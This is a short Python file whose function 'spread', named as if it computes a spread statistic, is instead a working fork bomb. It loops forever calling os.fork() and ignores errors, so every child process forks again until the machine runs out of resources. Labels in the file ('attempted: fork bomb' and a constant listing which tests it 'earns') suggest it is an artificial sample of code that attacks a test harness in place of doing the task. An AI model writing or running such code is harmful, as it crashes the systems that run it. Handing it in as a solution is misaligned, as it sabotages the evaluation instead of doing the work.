"""Forks without end from every child.

Honest result: all but that test; the worker kills what it has no room to count.
"""

import os

EARNS = "all but test_spread_is_the_root_of_the_mean_squared_distance"
ATTEMPTED = "attempted: fork bomb"


def spread(X):
    print("attempted: fork bomb")
    while True:
        try:
            os.fork()
        except OSError:
            pass
